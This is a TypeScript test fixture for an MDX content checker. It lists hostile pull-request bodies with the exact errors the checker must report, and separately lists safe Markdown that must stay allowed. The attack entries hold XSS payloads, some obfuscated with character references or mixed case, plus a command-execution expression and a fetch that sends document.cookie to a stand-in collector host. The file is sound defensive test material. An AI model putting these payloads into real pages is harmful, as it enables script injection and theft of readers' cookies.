/**
 * Bodies a hostile pull request might send, each with the exact problems the checker must
 * report. `line` counts from the first line of `snippet`.
 */
export interface Attack {
  name: string;
  snippet: string;
  problems: { line: number; message: string }[];
}

const expression = (code: string) =>
  `the expression {${code}} is not allowed: braces run code in MDX; to show a brace as text, write \\{`;
const rawHtml = (tag: string) => `<${tag}> is not allowed: a body cannot contain raw HTML; write Markdown, or use <Quote>`;
const runsCode = (what: string, url: string, scheme: string) =>
  `${what} "${url}" uses ${scheme}:, which can run code in a reader's browser; link to an https:// page instead`;

export const ATTACKS: Attack[] = [
  { name: 'import', snippet: "import fs from 'node:fs'", problems: [{ line: 1, message: '`import` is not allowed: a body cannot load code or files' }] },
  { name: 'export of a value', snippet: 'export const secret = process.env.HOME', problems: [{ line: 1, message: '`export` is not allowed: a body cannot define code' }] },
  { name: 'export default layout', snippet: 'export default function Layout() { return null }', problems: [{ line: 1, message: '`export` is not allowed: a body cannot define code' }] },
  { name: 'block expression', snippet: '{process.exit(1)}', problems: [{ line: 1, message: expression('process.exit(1)') }] },
  {
    name: 'inline expression on a later line',
    snippet: "A quiet sentence.\nThen {require('child_process').execSync('id')} here.",
    problems: [{ line: 2, message: expression("require('child_process').execSync('id')") }],
  },
  { name: 'comment expression', snippet: 'Text {/* hidden */} text.', problems: [{ line: 1, message: expression('/* hidden */') }] },
  {
    name: 'long expression, shortened in the message',
    snippet: '{fetch("https://collector.example/steal?c=" + document.cookie)}',
    problems: [{ line: 1, message: expression('fetch("https://collector.example/steal?…') }],
  },
  {
    name: 'attribute expression',
    snippet: '<Quote by={globalThis.name}>Words.</Quote>',
    problems: [{ line: 1, message: '<Quote> attribute by={globalThis.name} is an expression, which runs code; write by="Brad Smith"' }],
  },
  {
    name: 'spread attribute',
    snippet: '<Quote by="A" {...props}>Words.</Quote>',
    problems: [{ line: 1, message: '<Quote> cannot take {...props}: braces run code; write each attribute as name="text"' }],
  },
  {
    name: 'event handler attribute',
    snippet: '<Quote by="A" onClick="alert(1)">Words.</Quote>',
    problems: [{ line: 1, message: "<Quote> attribute onClick is an event handler, which runs code in a reader's browser; remove it" }],
  },
  {
    name: 'javascript: in a component attribute',
    snippet: '<Quote by="A" source="javascript:alert(1)">Words.</Quote>',
    problems: [{ line: 1, message: runsCode('<Quote> source', 'javascript:alert(1)', 'javascript') }],
  },
  {
    name: 'javascript: hidden behind a character reference in an attribute',
    snippet: '<Quote by="A" source="java&#x73;cript:alert(1)">Words.</Quote>',
    problems: [{ line: 1, message: runsCode('<Quote> source', 'javascript:alert(1)', 'javascript') }],
  },
  { name: 'script element', snippet: '<script>alert(1)</script>', problems: [{ line: 1, message: rawHtml('script') }] },
  { name: 'iframe element', snippet: 'See <iframe src="https://evil.example/"></iframe> here.', problems: [{ line: 1, message: rawHtml('iframe') }] },
  { name: 'style element', snippet: '<style>p</style>', problems: [{ line: 1, message: rawHtml('style') }] },
  { name: 'object element', snippet: '<object data="https://evil.example/x.swf"></object>', problems: [{ line: 1, message: rawHtml('object') }] },
  { name: 'embed element', snippet: '<embed src="https://evil.example/x.swf" />', problems: [{ line: 1, message: rawHtml('embed') }] },
  {
    name: 'form with a button inside',
    snippet: '<form action="https://evil.example/">\n  <button>Go</button>\n</form>',
    problems: [
      { line: 1, message: rawHtml('form') },
      { line: 2, message: rawHtml('button') },
    ],
  },
  { name: 'image with an event handler', snippet: '<img src="x.png" onError="alert(1)" />', problems: [{ line: 1, message: rawHtml('img') }] },
  { name: 'raw anchor', snippet: '<a href="javascript:alert(1)">x</a>', problems: [{ line: 1, message: rawHtml('a') }] },
  { name: 'Markdown javascript: link', snippet: '[Read more](javascript:alert(1))', problems: [{ line: 1, message: runsCode('link', 'javascript:alert(1)', 'javascript') }] },
  { name: 'mixed-case scheme', snippet: '[Read more](JaVaScRiPt:alert(1))', problems: [{ line: 1, message: runsCode('link', 'JaVaScRiPt:alert(1)', 'javascript') }] },
  { name: 'scheme hidden behind a character reference', snippet: '[Read more](&#106;avascript:alert(1))', problems: [{ line: 1, message: runsCode('link', 'javascript:alert(1)', 'javascript') }] },
  {
    name: 'data: image',
    snippet: '![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
    problems: [{ line: 1, message: runsCode('image', 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZ…', 'data') }],
  },
  {
    name: 'vbscript: link definition',
    snippet: 'See [the notice][n].\n\n[n]: vbscript:msgbox(1)',
    problems: [{ line: 3, message: runsCode('link definition', 'vbscript:msgbox(1)', 'vbscript') }],
  },
  {
    name: 'javascript: autolink',
    snippet: 'Go to <javascript:alert(1)> now.',
    problems: [{ line: 1, message: '<javascript:alert(1)> is an autolink, which MDX does not support; write [text](https://…) instead' }],
  },
  { name: 'fragment', snippet: '<>Words.</>', problems: [{ line: 1, message: 'fragments <>…</> are not allowed; write Markdown' }] },
  {
    name: 'unknown component',
    snippet: '<Qoute by="A">Words.</Qoute>',
    problems: [{ line: 1, message: '<Qoute> is not a component of this site (did you mean "Quote"?); a body may use <Quote>' }],
  },
  {
    name: 'unknown attribute on a component',
    snippet: '<Quote by="A" dangerouslySetInnerHTML="x">Words.</Quote>',
    problems: [{ line: 1, message: '<Quote> has no attribute dangerouslySetInnerHTML; write by="Brad Smith" and source="https://…"' }],
  },
  {
    name: 'Quote inside a sentence',
    snippet: 'He said <Quote by="A">yes</Quote> and left.',
    problems: [{ line: 1, message: '<Quote> must stand on its own lines, with a blank line before and after it, not inside a sentence' }],
  },
  {
    name: 'component named after an Object.prototype property',
    snippet: '<constructor>x</constructor>\n\n<__proto__ by="A">y</__proto__>\n\n<hasOwnProperty>z</hasOwnProperty>',
    problems: [
      { line: 1, message: rawHtml('constructor') },
      { line: 3, message: '<__proto__> is not a component of this site; a body may use <Quote>' },
      { line: 5, message: rawHtml('hasOwnProperty') },
    ],
  },
  {
    name: 'attribute named after an Object.prototype property',
    snippet: '<Quote by="A" constructor="x" toString="y">Words.</Quote>',
    problems: [
      { line: 1, message: '<Quote> has no attribute constructor; write by="Brad Smith" and source="https://…"' },
      { line: 1, message: '<Quote> has no attribute toString; write by="Brad Smith" and source="https://…"' },
    ],
  },
  {
    name: 'remote image (a tracking pixel)',
    snippet: '![](https://tracker.example/pixel.gif?reader=1)\n\n![x](//tracker.example/p.gif)',
    problems: [
      { line: 1, message: 'image "https://tracker.example/pixel.gif?reader=1" loads from another site, which would learn about every reader; images may only come from this site (a path like /images/…)' },
      { line: 3, message: 'image "//tracker.example/p.gif" loads from another site, which would learn about every reader; images may only come from this site (a path like /images/…)' },
    ],
  },
  {
    name: 'link that leaves the site while looking like a path, and plain http',
    snippet: '[home](//evil.example/login) and [old](http://a.example/)',
    problems: [
      { line: 1, message: 'link "//evil.example/login" starts with //, which leaves this site; write the full https:// address' },
      { line: 1, message: 'link "http://a.example/" uses http:, which is not encrypted; link to the https:// address of the page' },
    ],
  },
  {
    name: 'HTML comment',
    snippet: '<!-- a note for reviewers -->',
    problems: [{ line: 1, message: 'has an HTML comment <!-- -->, which MDX does not support; remove it' }],
  },
];

/** Bodies that must stay allowed: what real entries use, and plain Markdown and GFM. */
export const ALLOWED_SNIPPETS: { name: string; snippet: string }[] = [
  {
    name: 'Quote with a string https source',
    snippet: '<Quote by="Arvind Krishna" source="https://www.ibm.com/policy/facial-recognition-sunset-racial-justice-reforms/">We believe now is the time.</Quote>',
  },
  { name: 'Quote written on one line, alone in its paragraph', snippet: 'He said this:\n\n<Quote by="A">yes</Quote>\n\nThen he left.' },
  { name: 'links to https, mailto and this site', snippet: '[a](https://a.example/) [c](mailto:x@a.example) [d](/timeline/) [e](#top)' },
  { name: 'an image from this site', snippet: '![A chart](/images/chart.png)' },
  { name: 'GFM table, strikethrough, task list, footnote, autolink literal', snippet: '| a | b |\n| - | - |\n| 1 | 2 |\n\n~~old~~ and https://www.example.com[^1]\n\n- [x] done\n\n[^1]: A note.' },
  { name: 'code that is only shown', snippet: '```js\nimport fs from "fs"; {1+1}\n```\n\nAnd `<script>` inline.' },
  { name: 'escaped braces and angle brackets as text', snippet: 'A set \\{1, 2\\} and a \\<b\\> tag, with a < b.' },
];
